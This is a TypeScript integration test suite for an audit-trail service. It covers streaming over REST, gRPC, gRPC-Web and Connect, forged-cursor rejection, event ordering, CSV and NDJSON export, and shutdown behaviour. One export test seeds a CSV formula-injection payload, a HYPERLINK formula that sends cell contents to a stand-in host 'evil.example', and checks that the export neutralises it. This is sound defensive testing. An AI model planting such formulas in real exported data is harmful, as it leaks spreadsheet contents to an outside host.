import { connect } from "node:net";
import { createClient, type Transport } from "@connectrpc/connect";
import {
  createConnectTransport,
  createGrpcTransport,
  createGrpcWebTransport,
  Http2SessionManager,
} from "@connectrpc/connect-node";
import { afterAll, afterEach, beforeAll, describe, expect, jest, test } from "@jest/globals";
import type { Client } from "pg";
import { AuditService } from "../../src/gen/countersign/v1/audit_pb.ts";
import { signInWith } from "../admin/callers.ts";
import { eventually, retry } from "../_harness/eventually.ts";
import { readMetric } from "../_harness/metrics.ts";
import { fromConnectError } from "../_harness/outcome.ts";
import { bearerOf, send } from "../_harness/rest.ts";
import { insertEvent, insertEvents } from "../_harness/rows/audit.ts";
import { changeUser } from "../_harness/rows/users.ts";
import { startService, type TestService } from "../_harness/service.ts";
import { createSharedDatabase } from "../_harness/shared-stores.ts";
import { openSql } from "../_harness/sql.ts";

// Following and exporting the audit trail over every protocol.

jest.setTimeout(60_000);

let database: Awaited<ReturnType<typeof createSharedDatabase>>;
let env: Record<string, string>;
let service: TestService;
let sql: Client;
let sessions: Http2SessionManager;
beforeAll(async () => {
  database = await createSharedDatabase();
  env = { DATABASE_URL: database.url, ISSUER: "https://id.example.org" };
  service = await startService({ env: { ...env, BODY_TIMEOUT: "1s" } });
  sessions = new Http2SessionManager(service.url);
  sql = await openSql(database.url);
}, 120_000);
afterAll(async () => {
  sessions.abort();
  await sql.end();
  await service.stop();
  await database.drop();
});

const open: AbortController[] = [];
afterEach(() => {
  for (const stream of open.splice(0)) stream.abort();
});

/** A message of the stream, as every protocol has it. */
interface Step {
  readonly reason: string | null;
  readonly cursor: string;
}

/** What a stream has brought so far, and how it has ended: null while it goes on, "ok", or a reason. */
interface Followed {
  readonly steps: Step[];
  end: string | null;
}

interface Asked {
  readonly token: string;
  readonly cursor?: string;
  readonly address?: string;
  readonly untilNow?: boolean;
}

type Follow = (asked: Asked, followed: Followed, signal: AbortSignal) => Promise<void>;

/** By the lines of newline-delimited JSON. */
const overRest: Follow = async ({ token, cursor = "", address = "", untilNow = false }, followed, signal) => {
  const query = new URLSearchParams({ cursor, client_address: address, until_now: String(untilNow) });
  const url = `${service.url}/admin/audit-events:follow?${query.toString()}`;
  const answer = await fetch(url, { headers: bearerOf(token), signal });
  let rest = "";
  for await (const chunk of answer.body?.pipeThrough(new TextDecoderStream()) ?? []) {
    const lines = (rest + chunk).split("\n");
    rest = lines.pop() ?? "";
    for (const line of lines) {
      const step = JSON.parse(line) as {
        audit_event: { reason: string } | null;
        cursor: string;
        error?: { reason: string };
      };
      if (step.error === undefined) {
        followed.steps.push({ reason: step.audit_event?.reason ?? null, cursor: step.cursor });
      } else followed.end = step.error.reason;
    }
  }
};

const overTransport =
  (create: () => Transport): Follow =>
  async ({ token, cursor = "", address = "", untilNow = false }, followed, signal) => {
    const options = { headers: bearerOf(token), signal };
    const asked = { cursor, clientAddress: address, untilNow };
    try {
      for await (const step of createClient(AuditService, create()).followAuditEvents(asked, options)) {
        followed.steps.push({ reason: step.auditEvent?.reason ?? null, cursor: step.cursor });
      }
    } catch (error) {
      followed.end = fromConnectError(error).failure?.reason ?? "cut";
    }
  };

const url = () => ({ baseUrl: service.url, sessionManager: sessions });
const protocols: Readonly<Record<string, Follow>> = {
  REST: overRest,
  gRPC: overTransport(() => createGrpcTransport(url())),
  "gRPC-Web": overTransport(() => createGrpcWebTransport({ baseUrl: service.url, httpVersion: "1.1" })),
  Connect: overTransport(() => createConnectTransport({ ...url(), httpVersion: "2" })),
};

/** Begins to follow, and waits for the first message. */
async function follow(by: Follow, asked: Asked): Promise<Followed> {
  const followed: Followed = { steps: [], end: null };
  const stream = new AbortController();
  open.push(stream);
  by(asked, followed, stream.signal).then(
    () => (followed.end ??= "ok"),
    () => (followed.end ??= "cut"),
  );
  await eventually(() => followed.steps.length > 0 || followed.end !== null);
  return followed;
}

const address = "198.51.100.77";
const addEvent = (client: Client, reason: string) =>
  insertEvent(client, { type: "store.recovered", reason, address });
const reasonsOf = ({ steps }: Followed) => steps.flatMap(({ reason }) => reason ?? []);
const tokenOf = async (...roles: string[]) => (await signInWith(service, ...roles)).token;

describe.each(Object.entries(protocols))("following over %s", (_name, by) => {
  test("goes on from the last cursor, and neither loses nor repeats what was committed late", async () => {
    const token = await tokenOf("auditor");
    const first = await follow(by, { token, address });
    await addEvent(sql, "one");
    await eventually(() => reasonsOf(first).length === 1, 20_000);
    open.pop()?.abort();
    const late = await openSql(database.url);
    await late.query("begin");
    await addEvent(late, "written first, committed last");
    await addEvent(sql, "written last, committed first");
    const second = await follow(by, { token, address, cursor: first.steps.at(-1)?.cursor ?? "" });
    expect(reasonsOf(second)).toEqual([]);
    await late.query("commit");
    await late.end();
    await eventually(() => reasonsOf(second).length === 2, 20_000);
    expect([...reasonsOf(first), ...reasonsOf(second)]).toEqual([
      "one",
      "written first, committed last",
      "written last, committed first",
    ]);
    expect([first.steps[0]?.reason, second.steps[0]?.reason]).toEqual([null, null]);
  });

  test("ends when the caller loses the permission, and when the caller's session ends", async () => {
    const [demoted, leaving] = [await signInWith(service, "auditor"), await signInWith(service, "auditor")];
    const streams = [
      await follow(by, { token: demoted.token }),
      await follow(by, { token: leaving.token }),
    ] as const;
    expect(streams.map(({ end }) => end)).toEqual([null, null]);
    await changeUser(sql, { id: demoted.id }, { roles: [] });
    await leaving.call("DELETE", "/auth/sessions");
    const since = performance.now();
    await eventually(() => streams.every(({ end }) => end !== null), 10_000);
    expect(streams.map(({ end }) => end)).toEqual(["permission_denied", "invalid_token"]);
    expect(performance.now() - since).toBeLessThan(5_000);
  });
});

describe("a cursor", () => {
  const make = (...parts: unknown[]) => Buffer.from(JSON.stringify(parts)).toString("base64url");

  test.each<[string, (digest: string) => string]>([
    ["is no base64url", () => "***"],
    ["is of other conditions", () => make("AAAAAAAAAAA", "1", "1", "2026-01-01T00:00:00.000Z")],
    ["names no transaction", (digest) => make(digest, "-1", "1", "2026-01-01T00:00:00.000Z")],
    [
      "names a transaction of more than 64 bits",
      (digest) => make(digest, "9".repeat(20), "1", "2026-01-01T00:00:00.000Z"),
    ],
    [
      "names an event of more than 64 bits",
      (digest) => make(digest, "1", "9".repeat(19), "2026-01-01T00:00:00.000Z"),
    ],
    ["has a time that is none", (digest) => make(digest, "1", "1", "2026-02-30T00:00:00.000Z")],
    ["has a part too many", (digest) => make(digest, "1", "1", "2026-01-01T00:00:00.000Z", "")],
    ["has numbers for texts", (digest) => make(digest, 1, 1, 1)],
    ["lies ahead of the trail", (digest) => make(digest, "9".repeat(19), "1", "2026-01-01T00:00:00.000Z")],
  ])("that %s is refused", async (_what, forge) => {
    const headers = bearerOf(await auditor());
    const answer = await fetch(`${service.url}/admin/audit-events:follow?until_now=true`, { headers });
    const [line = ""] = (await answer.text()).split("\n");
    const { cursor } = JSON.parse(line) as { cursor: string };
    const [digest] = JSON.parse(Buffer.from(cursor, "base64url").toString()) as [string];
    const { status, fields } = await send(
      `${service.url}/admin/audit-events:follow?cursor=${encodeURIComponent(forge(digest))}`,
      { headers },
    );
    expect([status, fields]).toEqual([422, ["cursor"]]);
  });
});

let knownAuditor: Promise<string> | null = null;
const auditor = (): Promise<string> => (knownAuditor ??= tokenOf("auditor"));

test("events of one transaction come once each, in the order of their numbers", async () => {
  const many = "198.51.100.78";
  await insertEvents(sql, { type: "login.failed", reason: "many", address: many }, 250, 0);
  const query = `client_address=${many}&since=2026-01-01T00:00:00Z&until_now=true`;
  const ids = await retry(20_000, async () => {
    const headers = bearerOf(await auditor());
    const answer = await fetch(`${service.url}/admin/audit-events:follow?${query}`, { headers });
    const found = Array.from((await answer.text()).matchAll(/"id":"(\d+)"/g), ([, id]) => Number(id));
    return found.length === 0 ? null : found;
  });
  expect(new Set(ids).size).toBe(250);
  expect(ids).toEqual(ids.toSorted((one, other) => one - other));
});

describe("an export", () => {
  const formula = '=HYPERLINK("https://evil.example?"&A1,"x")';
  beforeAll(async () => {
    const form = { type: "login.failed", address: "203.0.113.9" };
    await insertEvent(sql, { ...form, reason: formula });
    await insertEvent(sql, { ...form, reason: 'a "quoted", text' });
    await insertEvents(sql, { ...form, reason: "many" }, 450, 0);
  });
  const fetchExport = async (format: string) =>
    fetch(`${service.url}/admin/audit-events:export?client_address=203.0.113.9&format=${format}`, {
      headers: bearerOf(await auditor()),
    });

  test("as CSV makes no formula of any text, and quotes what it must", async () => {
    const answer = await fetchExport("csv");
    expect(answer.headers.get("content-type")).toBe("text/csv; charset=utf-8; header=present");
    expect(answer.headers.get("content-disposition")).toBe('attachment; filename="audit-events.csv"');
    const lines = (await answer.text()).split("\r\n");
    expect(lines).toHaveLength(1 + 452 + 1);
    expect(lines.filter((line) => line.includes(`,"'${formula.replaceAll('"', '""')}",1,`))).toHaveLength(1);
    expect(lines.filter((line) => line.includes(',"a ""quoted"", text",1,'))).toHaveLength(1);
  });

  test("as NDJSON is what the list and the command line say, line by line", async () => {
    const text = await (await fetchExport("ndjson")).text();
    const args = ["audit", "export", "--address", "203.0.113.9"];
    const { code, stdout, stderr } = await service.command(args);
    expect([code, stdout, stderr]).toEqual([0, text, "wrote 452 events\n"]);
    const list = await send(`${service.url}/admin/audit-events?client_address=203.0.113.9&page_size=1000`, {
      headers: bearerOf(await auditor()),
    });
    const rows = text
      .trimEnd()
      .split("\n")
      .map((line) => JSON.parse(line) as unknown);
    expect(rows).toEqual(list.json["audit_events"]);
    const ids = rows.map((row) => Number((row as { id: string }).id));
    expect(ids).toEqual(ids.toSorted((one, other) => other - one));
  });
});

test("a reader that reads nothing is cut off, and holds no more than a few streams", async () => {
  await insertEvents(
    sql,
    { type: "login.failed", reason: "x".repeat(20_000), address: "203.0.113.10" },
    1_500,
    1,
  );
  const token = await auditor();
  const series =
    'countersign_rpc_streams{rpc="countersign.v1.AuditService/ExportAuditEvents",protocol="rest"}';
  const sockets = Array.from({ length: 12 }, () => {
    const socket = connect(service.port, "127.0.0.1").on("error", () => undefined);
    const target = "/admin/audit-events:export?client_address=203.0.113.10";
    socket.write(`GET ${target} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${token}\r\n\r\n`);
    return socket.pause();
  });
  await eventually(async () => (await readMetric(service, series)) > 0);
  const most = await retry(5_000, async () => {
    const count = await readMetric(service, series);
    return count <= 8 ? count : null;
  });
  expect(most).toBeGreaterThan(0);
  await eventually(async () => (await readMetric(service, series)) === 0, 20_000);
  for (const socket of sockets) socket.destroy();
});

test("at SIGTERM a stream ends in order, and goes on from its cursor at another instance", async () => {
  const other = await startService({ env });
  try {
    const ended = service;
    const token = await tokenOf("auditor");
    const streams = await Promise.all(Object.values(protocols).map((by) => follow(by, { token, address })));
    const ending = ended.end("SIGTERM");
    await eventually(() => streams.every(({ end }) => end !== null), 20_000);
    expect(streams.map(({ end }) => end)).toEqual(["ok", "ok", "ok", "ok"]);
    await ending;
    await addEvent(sql, "after the end");
    service = other;
    const next = await follow(overRest, { token, address, cursor: streams[0]?.steps.at(-1)?.cursor ?? "" });
    await eventually(() => reasonsOf(next).length === 1, 20_000);
    expect(reasonsOf(next)).toEqual(["after the end"]);
    await ended.stop();
  } finally {
    service = other;
  }
});
